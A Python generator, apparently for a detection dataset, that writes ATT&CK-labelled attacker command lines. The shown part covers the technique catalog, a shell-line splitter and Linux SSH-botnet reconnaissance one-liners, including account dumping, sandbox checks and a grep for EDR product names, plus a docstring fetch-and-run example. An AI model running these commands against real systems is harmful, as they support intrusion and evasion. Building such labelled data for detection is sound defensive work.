#!/usr/bin/env python3
"""Writes data/attacker-linux.csv and data/attacker-windows.csv: hand-written command lines of the kind
real intruders type, labelled with ATT&CK techniques.

    python3 data/make_attacker.py                    # (re)writes both files next to this script
    python3 data/make_attacker.py --tables           # also prints the row-count tables of data/README.md
    python3 data/make_attacker.py --check CATALOG    # also checks every label against an ATT&CK catalog CSV
                                                     # (id,name,tactics,platforms,status), e.g. the one the
                                                     # library embeds

Standard library only; the output is byte-for-byte reproducible. Every command line below was written by
hand for this project from general knowledge of intrusion behaviour (SSH/telnet honeypot botnets,
cryptominer droppers, hands-on-keyboard Windows intrusions, ransomware operators). None is copied from a
dataset. The only randomness, from one seeded generator, fills in made-up SSH public keys, Monero wallet
addresses and NT hashes, so that they look real without being anybody's.

How a scenario becomes rows. Intruders type compound lines (`cd /tmp; wget ...; chmod +x x; ./x`), and the
evaluation labels them statement by statement after splitting at `;`, `&&`, `||`, `|` and `&`. So
`chain(...)` emits the whole line (labelled with its main purpose), every statement (labelled with what that
statement does in the attack) and, for a pipeline, every stage of the pipe (labelled with its stage's label,
by default the pipeline's). Helper statements (`cd /tmp` before a download, `cd ~` before planting a key)
take the label of the step they serve. The splitter leaves quoted text, `$( )`, back-ticks, `( )` and
`{ }` groups whole and never splits the `&` of a redirection (`2>&1`, `>&`, `&>`).

Identical (command line, technique) pairs from different scenarios are merged: counts add up, the first
scenario's `source` tag is kept. `count` is a hand-set estimate of how often such a line would be seen
(heavy-tailed: a botnet's recon one-liner thousands of times, a hands-on-keyboard command a few times).

Technique IDs: ATT&CK v18.1 Enterprise, except where ATT&CK v19 moved a technique to a new ID that the
project's other data (Atomic Red Team) already uses: T1685 (was T1562.001 Disable or Modify Tools),
T1685.001 (T1562.002), T1685.005 (T1070.001), T1685.006 (T1070.002), T1686 (T1562.004), T1688 (T1562.009),
T1689 (T1562.010), T1690 (T1562.003). Using the old IDs would make two classes of one behaviour when the
files are trained together.
"""
import base64
import csv
import io
import os
import random
import sys
from collections import Counter, defaultdict

SEED = 20250611

# Tactic IDs in kill-chain order (ATT&CK Enterprise).
TACTICS = {
    "TA0043": "Reconnaissance", "TA0042": "Resource Development", "TA0001": "Initial Access",
    "TA0002": "Execution", "TA0003": "Persistence", "TA0004": "Privilege Escalation",
    "TA0005": "Defense Evasion", "TA0006": "Credential Access", "TA0007": "Discovery",
    "TA0008": "Lateral Movement", "TA0009": "Collection", "TA0011": "Command and Control",
    "TA0010": "Exfiltration", "TA0040": "Impact",
}

# ID -> (name, tactics) for every technique used below and its parent, as in the catalog
# (ATT&CK v18.1 Enterprise plus the v19 IDs listed in the module docstring).
CATALOG = {
    "T1003": ('OS Credential Dumping', ('TA0006',)),
    "T1003.001": ('LSASS Memory', ('TA0006',)),
    "T1003.002": ('Security Account Manager', ('TA0006',)),
    "T1003.003": ('NTDS', ('TA0006',)),
    "T1003.004": ('LSA Secrets', ('TA0006',)),
    "T1003.005": ('Cached Domain Credentials', ('TA0006',)),
    "T1003.006": ('DCSync', ('TA0006',)),
    "T1003.007": ('Proc Filesystem', ('TA0006',)),
    "T1003.008": ('/etc/passwd and /etc/shadow', ('TA0006',)),
    "T1005": ('Data from Local System', ('TA0009',)),
    "T1007": ('System Service Discovery', ('TA0007',)),
    "T1012": ('Query Registry', ('TA0007',)),
    "T1014": ('Rootkit', ('TA0005',)),
    "T1016": ('System Network Configuration Discovery', ('TA0007',)),
    "T1016.001": ('Internet Connection Discovery', ('TA0007',)),
    "T1016.002": ('Wi-Fi Discovery', ('TA0007',)),
    "T1018": ('Remote System Discovery', ('TA0007',)),
    "T1021": ('Remote Services', ('TA0008',)),
    "T1021.001": ('Remote Desktop Protocol', ('TA0008',)),
    "T1021.002": ('SMB/Windows Admin Shares', ('TA0008',)),
    "T1021.003": ('Distributed Component Object Model', ('TA0008',)),
    "T1021.004": ('SSH', ('TA0008',)),
    "T1021.006": ('Windows Remote Management', ('TA0008',)),
    "T1027": ('Obfuscated Files or Information', ('TA0005',)),
    "T1027.004": ('Compile After Delivery', ('TA0005',)),
    "T1027.010": ('Command Obfuscation', ('TA0005',)),
    "T1033": ('System Owner/User Discovery', ('TA0007',)),
    "T1036": ('Masquerading', ('TA0005',)),
    "T1036.003": ('Rename Legitimate Utilities', ('TA0005',)),
    "T1036.004": ('Masquerade Task or Service', ('TA0005',)),
    "T1036.005": ('Match Legitimate Resource Name or Location', ('TA0005',)),
    "T1037": ('Boot or Logon Initialization Scripts', ('TA0003', 'TA0004')),
    "T1037.004": ('RC Scripts', ('TA0003', 'TA0004')),
    "T1039": ('Data from Network Shared Drive', ('TA0009',)),
    "T1040": ('Network Sniffing', ('TA0006', 'TA0007')),
    "T1041": ('Exfiltration Over C2 Channel', ('TA0010',)),
    "T1046": ('Network Service Discovery', ('TA0007',)),
    "T1047": ('Windows Management Instrumentation', ('TA0002',)),
    "T1048": ('Exfiltration Over Alternative Protocol', ('TA0010',)),
    "T1048.002": ('Exfiltration Over Asymmetric Encrypted Non-C2 Protocol', ('TA0010',)),
    "T1048.003": ('Exfiltration Over Unencrypted Non-C2 Protocol', ('TA0010',)),
    "T1049": ('System Network Connections Discovery', ('TA0007',)),
    "T1053": ('Scheduled Task/Job', ('TA0002', 'TA0003', 'TA0004')),
    "T1053.002": ('At', ('TA0002', 'TA0003', 'TA0004')),
    "T1053.003": ('Cron', ('TA0002', 'TA0003', 'TA0004')),
    "T1053.005": ('Scheduled Task', ('TA0002', 'TA0003', 'TA0004')),
    "T1053.006": ('Systemd Timers', ('TA0002', 'TA0003', 'TA0004')),
    "T1056": ('Input Capture', ('TA0006', 'TA0009')),
    "T1057": ('Process Discovery', ('TA0007',)),
    "T1059": ('Command and Scripting Interpreter', ('TA0002',)),
    "T1059.001": ('PowerShell', ('TA0002',)),
    "T1059.003": ('Windows Command Shell', ('TA0002',)),
    "T1059.004": ('Unix Shell', ('TA0002',)),
    "T1059.005": ('Visual Basic', ('TA0002',)),
    "T1059.006": ('Python', ('TA0002',)),
    "T1059.007": ('JavaScript', ('TA0002',)),
    "T1059.008": ('Network Device CLI', ('TA0002',)),
    "T1068": ('Exploitation for Privilege Escalation', ('TA0004',)),
    "T1069": ('Permission Groups Discovery', ('TA0007',)),
    "T1069.001": ('Local Groups', ('TA0007',)),
    "T1069.002": ('Domain Groups', ('TA0007',)),
    "T1070": ('Indicator Removal', ('TA0005',)),
    "T1070.003": ('Clear Command History', ('TA0005',)),
    "T1070.004": ('File Deletion', ('TA0005',)),
    "T1070.005": ('Network Share Connection Removal', ('TA0005',)),
    "T1070.006": ('Timestomp', ('TA0005',)),
    "T1070.009": ('Clear Persistence', ('TA0005',)),
    "T1071": ('Application Layer Protocol', ('TA0011',)),
    "T1071.001": ('Web Protocols', ('TA0011',)),
    "T1071.004": ('DNS', ('TA0011',)),
    "T1074": ('Data Staged', ('TA0009',)),
    "T1074.001": ('Local Data Staging', ('TA0009',)),
    "T1078": ('Valid Accounts', ('TA0001', 'TA0003', 'TA0004', 'TA0005')),
    "T1078.001": ('Default Accounts', ('TA0001', 'TA0003', 'TA0004', 'TA0005')),
    "T1078.002": ('Domain Accounts', ('TA0001', 'TA0003', 'TA0004', 'TA0005')),
    "T1078.003": ('Local Accounts', ('TA0001', 'TA0003', 'TA0004', 'TA0005')),
    "T1082": ('System Information Discovery', ('TA0007',)),
    "T1083": ('File and Directory Discovery', ('TA0007',)),
    "T1087": ('Account Discovery', ('TA0007',)),
    "T1087.001": ('Local Account', ('TA0007',)),
    "T1087.002": ('Domain Account', ('TA0007',)),
    "T1090": ('Proxy', ('TA0011',)),
    "T1090.001": ('Internal Proxy', ('TA0011',)),
    "T1095": ('Non-Application Layer Protocol', ('TA0011',)),
    "T1098": ('Account Manipulation', ('TA0003', 'TA0004')),
    "T1098.004": ('SSH Authorized Keys', ('TA0003', 'TA0004')),
    "T1098.007": ('Additional Local or Domain Groups', ('TA0003', 'TA0004')),
    "T1105": ('Ingress Tool Transfer', ('TA0011',)),
    "T1110": ('Brute Force', ('TA0006',)),
    "T1110.001": ('Password Guessing', ('TA0006',)),
    "T1110.002": ('Password Cracking', ('TA0006',)),
    "T1110.003": ('Password Spraying', ('TA0006',)),
    "T1112": ('Modify Registry', ('TA0003', 'TA0005')),
    "T1113": ('Screen Capture', ('TA0009',)),
    "T1114": ('Email Collection', ('TA0009',)),
    "T1114.001": ('Local Email Collection', ('TA0009',)),
    "T1114.002": ('Remote Email Collection', ('TA0009',)),
    "T1115": ('Clipboard Data', ('TA0009',)),
    "T1119": ('Automated Collection', ('TA0009',)),
    "T1120": ('Peripheral Device Discovery', ('TA0007',)),
    "T1124": ('System Time Discovery', ('TA0007',)),
    "T1127": ('Trusted Developer Utilities Proxy Execution', ('TA0005',)),
    "T1127.001": ('MSBuild', ('TA0005',)),
    "T1134": ('Access Token Manipulation', ('TA0004', 'TA0005')),
    "T1134.001": ('Token Impersonation/Theft', ('TA0004', 'TA0005')),
    "T1135": ('Network Share Discovery', ('TA0007',)),
    "T1136": ('Create Account', ('TA0003',)),
    "T1136.001": ('Local Account', ('TA0003',)),
    "T1136.002": ('Domain Account', ('TA0003',)),
    "T1140": ('Deobfuscate/Decode Files or Information', ('TA0005',)),
    "T1190": ('Exploit Public-Facing Application', ('TA0001',)),
    "T1197": ('BITS Jobs', ('TA0003', 'TA0005')),
    "T1201": ('Password Policy Discovery', ('TA0007',)),
    "T1202": ('Indirect Command Execution', ('TA0005',)),
    "T1204": ('User Execution', ('TA0002',)),
    "T1204.002": ('Malicious File', ('TA0002',)),
    "T1210": ('Exploitation of Remote Services', ('TA0008',)),
    "T1217": ('Browser Information Discovery', ('TA0007',)),
    "T1218": ('System Binary Proxy Execution', ('TA0005',)),
    "T1218.004": ('InstallUtil', ('TA0005',)),
    "T1218.005": ('Mshta', ('TA0005',)),
    "T1218.007": ('Msiexec', ('TA0005',)),
    "T1218.009": ('Regsvcs/Regasm', ('TA0005',)),
    "T1218.010": ('Regsvr32', ('TA0005',)),
    "T1218.011": ('Rundll32', ('TA0005',)),
    "T1218.013": ('Mavinject', ('TA0005',)),
    "T1219": ('Remote Access Tools', ('TA0011',)),
    "T1219.001": ('IDE Tunneling', ('TA0011',)),
    "T1219.002": ('Remote Desktop Software', ('TA0011',)),
    "T1222": ('File and Directory Permissions Modification', ('TA0005',)),
    "T1222.001": ('Windows File and Directory Permissions Modification', ('TA0005',)),
    "T1222.002": ('Linux and Mac File and Directory Permissions Modification', ('TA0005',)),
    "T1482": ('Domain Trust Discovery', ('TA0007',)),
    "T1485": ('Data Destruction', ('TA0040',)),
    "T1486": ('Data Encrypted for Impact', ('TA0040',)),
    "T1489": ('Service Stop', ('TA0040',)),
    "T1490": ('Inhibit System Recovery', ('TA0040',)),
    "T1491": ('Defacement', ('TA0040',)),
    "T1491.001": ('Internal Defacement', ('TA0040',)),
    "T1491.002": ('External Defacement', ('TA0040',)),
    "T1496": ('Resource Hijacking', ('TA0040',)),
    "T1496.001": ('Compute Hijacking', ('TA0040',)),
    "T1496.002": ('Bandwidth Hijacking', ('TA0040',)),
    "T1497": ('Virtualization/Sandbox Evasion', ('TA0005', 'TA0007')),
    "T1497.001": ('System Checks', ('TA0005', 'TA0007')),
    "T1498": ('Network Denial of Service', ('TA0040',)),
    "T1498.001": ('Direct Network Flood', ('TA0040',)),
    "T1499": ('Endpoint Denial of Service', ('TA0040',)),
    "T1499.002": ('Service Exhaustion Flood', ('TA0040',)),
    "T1505": ('Server Software Component', ('TA0003',)),
    "T1505.003": ('Web Shell', ('TA0003',)),
    "T1518": ('Software Discovery', ('TA0007',)),
    "T1518.001": ('Security Software Discovery', ('TA0007',)),
    "T1518.002": ('Backup Software Discovery', ('TA0007',)),
    "T1529": ('System Shutdown/Reboot', ('TA0040',)),
    "T1531": ('Account Access Removal', ('TA0040',)),
    "T1543": ('Create or Modify System Process', ('TA0003', 'TA0004')),
    "T1543.002": ('Systemd Service', ('TA0003', 'TA0004')),
    "T1543.003": ('Windows Service', ('TA0003', 'TA0004')),
    "T1546": ('Event Triggered Execution', ('TA0003', 'TA0004')),
    "T1546.003": ('Windows Management Instrumentation Event Subscription', ('TA0003', 'TA0004')),
    "T1546.004": ('Unix Shell Configuration Modification', ('TA0003', 'TA0004')),
    "T1546.008": ('Accessibility Features', ('TA0003', 'TA0004')),
    "T1546.013": ('PowerShell Profile', ('TA0003', 'TA0004')),
    "T1547": ('Boot or Logon Autostart Execution', ('TA0003', 'TA0004')),
    "T1547.001": ('Registry Run Keys / Startup Folder', ('TA0003', 'TA0004')),
    "T1547.004": ('Winlogon Helper DLL', ('TA0003', 'TA0004')),
    "T1547.006": ('Kernel Modules and Extensions', ('TA0003', 'TA0004')),
    "T1548": ('Abuse Elevation Control Mechanism', ('TA0004', 'TA0005')),
    "T1548.001": ('Setuid and Setgid', ('TA0004', 'TA0005')),
    "T1548.002": ('Bypass User Account Control', ('TA0004', 'TA0005')),
    "T1548.003": ('Sudo and Sudo Caching', ('TA0004', 'TA0005')),
    "T1550": ('Use Alternate Authentication Material', ('TA0005', 'TA0008')),
    "T1550.002": ('Pass the Hash', ('TA0005', 'TA0008')),
    "T1550.003": ('Pass the Ticket', ('TA0005', 'TA0008')),
    "T1552": ('Unsecured Credentials', ('TA0006',)),
    "T1552.001": ('Credentials In Files', ('TA0006',)),
    "T1552.002": ('Credentials in Registry', ('TA0006',)),
    "T1552.003": ('Shell History', ('TA0006',)),
    "T1552.004": ('Private Keys', ('TA0006',)),
    "T1552.005": ('Cloud Instance Metadata API', ('TA0006',)),
    "T1552.006": ('Group Policy Preferences', ('TA0006',)),
    "T1555": ('Credentials from Password Stores', ('TA0006',)),
    "T1555.003": ('Credentials from Web Browsers', ('TA0006',)),
    "T1555.004": ('Windows Credential Manager', ('TA0006',)),
    "T1555.005": ('Password Managers', ('TA0006',)),
    "T1556": ('Modify Authentication Process', ('TA0003', 'TA0005', 'TA0006')),
    "T1556.003": ('Pluggable Authentication Modules', ('TA0003', 'TA0005', 'TA0006')),
    "T1558": ('Steal or Forge Kerberos Tickets', ('TA0006',)),
    "T1558.001": ('Golden Ticket', ('TA0006',)),
    "T1558.003": ('Kerberoasting', ('TA0006',)),
    "T1558.004": ('AS-REP Roasting', ('TA0006',)),
    "T1560": ('Archive Collected Data', ('TA0009',)),
    "T1560.001": ('Archive via Utility', ('TA0009',)),
    "T1561": ('Disk Wipe', ('TA0040',)),
    "T1561.001": ('Disk Content Wipe', ('TA0040',)),
    "T1561.002": ('Disk Structure Wipe', ('TA0040',)),
    "T1563": ('Remote Service Session Hijacking', ('TA0008',)),
    "T1563.001": ('SSH Hijacking', ('TA0008',)),
    "T1563.002": ('RDP Hijacking', ('TA0008',)),
    "T1564": ('Hide Artifacts', ('TA0005',)),
    "T1564.001": ('Hidden Files and Directories', ('TA0005',)),
    "T1564.002": ('Hidden Users', ('TA0005',)),
    "T1564.012": ('File/Path Exclusions', ('TA0005',)),
    "T1566": ('Phishing', ('TA0001',)),
    "T1566.001": ('Spearphishing Attachment', ('TA0001',)),
    "T1567": ('Exfiltration Over Web Service', ('TA0010',)),
    "T1567.002": ('Exfiltration to Cloud Storage', ('TA0010',)),
    "T1567.004": ('Exfiltration Over Webhook', ('TA0010',)),
    "T1569": ('System Services', ('TA0002',)),
    "T1569.002": ('Service Execution', ('TA0002',)),
    "T1569.003": ('Systemctl', ('TA0002',)),
    "T1570": ('Lateral Tool Transfer', ('TA0008',)),
    "T1571": ('Non-Standard Port', ('TA0011',)),
    "T1572": ('Protocol Tunneling', ('TA0011',)),
    "T1574": ('Hijack Execution Flow', ('TA0003', 'TA0004', 'TA0005')),
    "T1574.006": ('Dynamic Linker Hijacking', ('TA0003', 'TA0004', 'TA0005')),
    "T1588": ('Obtain Capabilities', ('TA0042',)),
    "T1588.002": ('Tool', ('TA0042',)),
    "T1595": ('Active Scanning', ('TA0043',)),
    "T1595.001": ('Scanning IP Blocks', ('TA0043',)),
    "T1608": ('Stage Capabilities', ('TA0042',)),
    "T1608.001": ('Upload Malware', ('TA0042',)),
    "T1608.002": ('Upload Tool', ('TA0042',)),
    "T1611": ('Escape to Host', ('TA0004',)),
    "T1613": ('Container and Resource Discovery', ('TA0007',)),
    "T1614": ('System Location Discovery', ('TA0007',)),
    "T1614.001": ('System Language Discovery', ('TA0007',)),
    "T1652": ('Device Driver Discovery', ('TA0007',)),
    "T1654": ('Log Enumeration', ('TA0007',)),
    "T1685": ('Disable or Modify Tools', ('TA0005',)),
    "T1685.001": ('Disable or Modify Windows Event Log', ('TA0005',)),
    "T1685.004": ('Disable or Modify Linux Audit System Log', ('TA0005',)),
    "T1685.005": ('Clear Windows Event Logs', ('TA0005',)),
    "T1685.006": ('Clear Linux or Mac System Logs', ('TA0005',)),
    "T1686": ('Disable or Modify System Firewall', ('TA0005',)),
    "T1688": ('Safe Mode Boot', ('TA0005',)),
    "T1689": ('Downgrade Attack', ('TA0005',)),
    "T1690": ('Prevent Command History Logging', ('TA0005',)),
}


# ---------------------------------------------------------------------------------------------------------
# Splitting a typed line into statements and pipe stages
# ---------------------------------------------------------------------------------------------------------

SYNTAX_ONLY = {"done", "fi", "esac", "{", "}", "do", "then", "else"}
LEADING_KEYWORDS = ("do ", "then ", "else ")


def split_line(line, windows=False):
    """Splits `line` at top-level `;`, `&&`, `||`, `&` (statements) and `|` (pipe stages).

    Returns a list of statements, each a pair (text, stages): the statement as typed (a slice of `line`,
    stripped) and its pipe stages (slices too; one stage when it has no pipe). `windows` switches the
    escape character from `\\` (sh) to `^` (cmd); both quote characters are honoured in both modes.
    Pure syntax words (`done`, `fi`, ...) are dropped and a leading `do `, `then ` or `else ` is removed,
    so that a loop body is the command it runs.
    """
    escape = "^" if windows else "\\"
    statements, stages = [], []
    stmt_start = stage_start = 0
    quote, depth, backtick = None, 0, False
    i, n = 0, len(line)

    def cut(end, width, is_pipe):
        nonlocal stmt_start, stage_start
        stages.append(line[stage_start:end])
        stage_start = end + width
        if not is_pipe:
            statements.append((line[stmt_start:end], list(stages)))
            stages.clear()
            stmt_start = stage_start

    while i < n:
        c = line[i]
        nxt = line[i + 1] if i + 1 < n else ""
        if quote:
            if c == escape and quote == '"' and nxt:
                i += 2
                continue
            if c == quote:
                quote = None
            i += 1
            continue
        if c == escape and nxt:
            i += 2
            continue
        width, is_pipe = 0, False
        if c in "\"'":
            quote = c
        elif c == "`" and not windows:
            backtick = not backtick
        elif c in "({":
            depth += 1
        elif c in ")}":
            depth = max(0, depth - 1)
        elif depth == 0 and not backtick:
            prev = line[i - 1] if i > 0 else ""
            if c == ";":
                width = 1
            elif c in "&|" and nxt == c:
                width = 2
            elif c == "&" and prev not in "<>" and nxt != ">":
                width = 1
            elif c == "|":
                width, is_pipe = 1, True
        if width:
            cut(i, width, is_pipe)
            i += width
        else:
            i += 1
    cut(n, 0, False)

    result = []
    for text, parts in statements:
        text, parts = text.strip(), [p.strip() for p in parts]
        changed = True
        while changed:
            changed = False
            for kw in LEADING_KEYWORDS:
                if text.startswith(kw):
                    text, parts[0] = text[len(kw):].strip(), parts[0][len(kw):].strip()
                    changed = True
        if not text or text in SYNTAX_ONLY or any(not p for p in parts):
            continue
        result.append((text, parts))
    return result


# ---------------------------------------------------------------------------------------------------------
# Corpus: merged rows
# ---------------------------------------------------------------------------------------------------------

class Corpus:
    def __init__(self, windows):
        self.windows = windows
        self.rows = {}        # (proctitle, technique id) -> [count, source]
        self.order = []       # first-seen order of keys

    def add(self, source, count, tid, text):
        if tid not in CATALOG:
            raise SystemExit(f"unknown technique {tid} for {text!r}")
        if not text or "\n" in text or "\r" in text:
            raise SystemExit(f"bad command line {text!r}")
        if not isinstance(count, int) or count < 1:
            raise SystemExit(f"bad count {count!r} for {text!r}")
        key = (text, tid)
        if key in self.rows:
            self.rows[key][0] += count
        else:
            self.rows[key] = [count, source]
            self.order.append(key)

    def one(self, source, count, tid, *lines):
        """Single-statement lines, each labelled `tid`, each seen `count` times."""
        for line in lines:
            self.chain(source, count, line, [tid])

    def chain(self, source, count, line, labels, whole=None):
        """A typed line: the whole line, its statements and their pipe stages.

        `labels` has one entry per statement: a technique ID for the statement and all its pipe stages,
        or a pair (statement ID, [stage IDs]). `whole` labels the entire line (required when it has more
        than one statement).
        """
        statements = split_line(line, self.windows)
        if len(statements) != len(labels):
            raise SystemExit(f"{len(statements)} statements but {len(labels)} labels in {line!r}: "
                             f"{[text for text, _ in statements]}")
        if whole is None:
            if len(statements) != 1:
                raise SystemExit(f"compound line needs a whole-line label: {line!r}")
            whole = labels[0] if isinstance(labels[0], str) else labels[0][0]
        self.add(source, count, whole, line)
        for (text, stages), label in zip(statements, labels):
            if isinstance(label, str):
                tid, stage_ids = label, [label] * len(stages)
            else:
                tid, stage_ids = label
                if len(stage_ids) != len(stages):
                    raise SystemExit(f"{len(stages)} pipe stages but {len(stage_ids)} labels in {stages!r}")
            if text != line:
                self.add(source, count, tid, text)
            if len(stages) > 1:
                for stage, sid in zip(stages, stage_ids):
                    self.add(source, count, sid, stage)

    def records(self):
        for text, tid in self.order:
            count, source = self.rows[(text, tid)]
            yield text, label(tid), label(parent(tid)), count, source


def parent(tid):
    return tid.split(".")[0]


def label(tid):
    return f"{tid}: {CATALOG[tid][0]}"


# ---------------------------------------------------------------------------------------------------------
# Made-up artefacts (seeded)
# ---------------------------------------------------------------------------------------------------------

B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


class Fakes:
    def __init__(self, seed):
        self.rng = random.Random(seed)

    def _bytes(self, n):
        return bytes(self.rng.getrandbits(8) for _ in range(n))

    def rsa_key(self, comment):
        """An OpenSSH ssh-rsa public key line: the wire format (string "ssh-rsa", mpint e = 65537,
        mpint n of 2048 bits) in base64, with random bytes for n."""
        n = b"\x00" + bytes([0x80 | self.rng.getrandbits(7)]) + self._bytes(255)
        blob = (len(b"ssh-rsa").to_bytes(4, "big") + b"ssh-rsa" + (3).to_bytes(4, "big") + b"\x01\x00\x01"
                + len(n).to_bytes(4, "big") + n)
        return f"ssh-rsa {base64.b64encode(blob).decode()} {comment}".strip()

    def ed25519_key(self, comment):
        blob = (len(b"ssh-ed25519").to_bytes(4, "big") + b"ssh-ed25519" + (32).to_bytes(4, "big")
                + self._bytes(32))
        return f"ssh-ed25519 {base64.b64encode(blob).decode()} {comment}".strip()

    def wallet(self):
        """A string shaped like a Monero address (95 base58 characters starting with 4); not a valid one."""
        return "4" + self.rng.choice("3456789AB") + "".join(self.rng.choice(B58) for _ in range(93))

    def hexstr(self, n):
        return self._bytes(n).hex()


def b64(text):
    return base64.b64encode(text.encode("utf-8")).decode()


def ps_enc(script):
    """PowerShell -EncodedCommand argument: base64 of the UTF-16LE script."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


def hex_escaped(data):
    return "".join(f"\\x{b:02x}" for b in data)


# ---------------------------------------------------------------------------------------------------------
# Linux: SSH/telnet honeypot botnets, miner droppers, hands-on intrusions on servers
# ---------------------------------------------------------------------------------------------------------

def linux(c, f):
    one, ch = c.one, c.chain

    # --- SSH botnet recon: the one-liners brute-forcing bots send right after login -------------------
    s = "ssh-botnet-recon"
    ch(s, 5400, "cat /proc/cpuinfo | grep name | wc -l", ["T1082"])
    ch(s, 3100, "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'", ["T1082"])
    ch(s, 3050, "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'", ["T1082"])
    ch(s, 2900, "ls -lh $(which ls)", ["T1497.001"])
    one(s, 2900, "T1497.001", "which ls")
    one(s, 2850, "T1053.003", "crontab -l")
    one(s, 2800, "T1033", "w")
    one(s, 2800, "T1082", "uname -m")
    ch(s, 2750, "cat /proc/cpuinfo | grep model | grep name | wc -l", ["T1082"])
    one(s, 2700, "T1057", "top")
    one(s, 2700, "T1082", "uname")
    one(s, 9800, "T1082", "uname -a")
    one(s, 3300, "T1033", "whoami")
    ch(s, 2650, "lscpu | grep Model", ["T1082"])
    ch(s, 2600, "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'", ["T1082"])
    ch(s, 2450, 'echo "321" > /var/tmp/.var03522123', ["T1083"])
    ch(s, 2400, "cat /var/tmp/.var03522123 | head -n 1", ["T1083"])
    one(s, 2400, "T1070.004", "rm -rf /var/tmp/.var03522123")
    one(s, 1900, "T1082", "uname -s -v -n -r -m", "uname -snrvm", "nproc")
    one(s, 1500, "T1033", "id")
    one(s, 1400, "T1082", "uname -r", "cat /proc/version", "hostname")
    one(s, 1300, "T1082", "cat /etc/issue", "cat /etc/os-release", "free -m", "lscpu")
    one(s, 1200, "T1082", "cat /proc/cpuinfo", "uptime", "df -h", "getconf LONG_BIT", "arch")
    one(s, 900, "T1082", "cat /proc/meminfo", "lsb_release -a", "cat /etc/*release", "free -h")
    ch(s, 1100, "cat /proc/cpuinfo | grep -c processor", ["T1082"])
    ch(s, 700, "grep -c ^processor /proc/cpuinfo", ["T1082"])
    ch(s, 650, "cat /proc/meminfo | head -n 1", ["T1082"])
    ch(s, 620, "lspci | grep -i vga", ["T1082"])
    ch(s, 600, 'nvidia-smi -q | grep "Product Name"', ["T1082"])
    one(s, 540, "T1082", "nvidia-smi", "lspci")
    ch(s, 520, "lscpu | grep 'CPU(s):'", ["T1082"])
    ch(s, 500, "cat /proc/cpuinfo | grep 'model name' | uniq", ["T1082"])
    ch(s, 480, "dmidecode | grep -i product", ["T1497.001"])
    one(s, 460, "T1497.001", "systemd-detect-virt", "cat /sys/class/dmi/id/product_name",
        "ls -la /.dockerenv", "cat /proc/1/cgroup")
    ch(s, 300, "ls -la /dev/ | grep -i vbox", ["T1497.001"])
    ch(s, 820, 'echo -e "\\x6f\\x6b"', ["T1082"])
    ch(s, 610, "echo $SHELL", ["T1082"])
    ch(s, 300, "echo $PATH", ["T1082"])
    one(s, 560, "T1082", "env", "set")
    one(s, 900, "T1057", "ps aux", "ps -ef")
    one(s, 350, "T1057", "ps -aux", "ps")
    ch(s, 420, "ps aux | grep -v grep | wc -l", ["T1057"])
    ch(s, 380, "ps -eo pid,user,%cpu,cmd --sort=-%cpu | head", ["T1057"])
    one(s, 300, "T1057", "top -bn1", "pstree -p")
    one(s, 800, "T1016", "ifconfig", "ip a")
    one(s, 500, "T1016", "ip addr show", "ip route", "cat /etc/resolv.conf", "route -n", "ifconfig -a")
    ch(s, 450, "ip a | grep inet", ["T1016"])
    ch(s, 260, "ifconfig | grep inet | awk '{print $2}'", ["T1016"])
    ch(s, 410, "curl -s ipinfo.example/ip", ["T1016"])
    ch(s, 220, "wget -qO- ifcfg.example", ["T1016"])
    ch(s, 200, "curl -s ipinfo.example/country", ["T1614"])
    one(s, 180, "T1614.001", "locale", "echo $LANG")
    one(s, 240, "T1016.001", "ping -c 1 198.51.100.53", "ping -c 3 192.0.2.53")
    ch(s, 130, "curl -sI http://www.example.com | head -n 1", ["T1016.001"])
    one(s, 700, "T1049", "netstat -tulpn", "netstat -an")
    one(s, 420, "T1049", "ss -tunap", "netstat -antp", "ss -lntp", "netstat -plant")
    ch(s, 260, "netstat -an | grep ESTABLISHED", ["T1049"])
    ch(s, 250, "netstat -tnp | grep :22", ["T1049"])
    one(s, 520, "T1087.001", "cat /etc/passwd")
    ch(s, 300, "cat /etc/passwd | grep /bin/bash", ["T1087.001"])
    ch(s, 180, "awk -F: '$3 >= 1000 {print $1}' /etc/passwd", ["T1087.001"])
    ch(s, 160, "cut -d: -f1 /etc/passwd", ["T1087.001"])
    one(s, 140, "T1087.001", "getent passwd", "lastlog", "ls -la /home")
    ch(s, 130, "grep -v nologin /etc/passwd", ["T1087.001"])
    one(s, 240, "T1069.001", "cat /etc/group", "groups", "getent group sudo")
    ch(s, 110, "grep -E '^(sudo|wheel|admin):' /etc/group", ["T1069.001"])
    one(s, 460, "T1033", "last", "who", "users", "last -n 10", "who -a")
    ch(s, 120, "last | head", ["T1033"])
    one(s, 300, "T1124", "date", "timedatectl")
    one(s, 190, "T1007", "systemctl list-units --type=service --state=running", "service --status-all",
        "chkconfig --list")
    ch(s, 140, "systemctl list-units | grep -i running", ["T1007"])
    one(s, 330, "T1518", "which wget curl tftp", "which python python3 perl gcc")
    ch(s, 260, "dpkg -l | grep -i ssh", ["T1518"])
    ch(s, 180, "rpm -qa | grep -i kernel", ["T1518"])
    one(s, 150, "T1518", "apt list --installed", "dpkg -l", "rpm -qa")
    ch(s, 140, "ps aux | grep -iE 'falcon|sentinel|osquery|wazuh|ossec|auditbeat'", [("T1518.001", ["T1057", "T1518.001"])])
    one(s, 120, "T1518.001", "systemctl status auditd", "ls /opt/CrowdStrike", "ls /usr/local/aegis")
    one(s, 400, "T1083", "ls -la", "ls -la /tmp", "pwd")
    one(s, 200, "T1083", "ls -la /root", "ls -la /var/tmp", "ls /dev/shm", "ls -la /opt", "mount")
    ch(s, 300, "cat /proc/mounts", ["T1082"])
    one(s, 150, "T1018", "cat /etc/hosts", "arp -a", "ip neigh", "cat ~/.ssh/known_hosts")
    ch(s, 400, "cd ~; uname -a; nproc; free -m; df -h; lscpu | grep Model", ["T1082"] * 6, whole="T1082")
    ch(s, 350, "uname -a;lspci | grep -i --color 'vga\\|3d\\|2d';lscpu;nproc;free -m;df -h",
       ["T1082"] * 6, whole="T1082")
    ch(s, 320, "uname -a; w; id; cat /etc/issue; uptime", ["T1082", "T1033", "T1033", "T1082", "T1082"],
       whole="T1082")
    ch(s, 300, "whoami; id; hostname; uname -a", ["T1033", "T1033", "T1082", "T1082"], whole="T1033")
    ch(s, 260, "cat /proc/cpuinfo | grep name | wc -l; free -g | grep Mem | awk '{print $2}'; nproc",
       ["T1082"] * 3, whole="T1082")
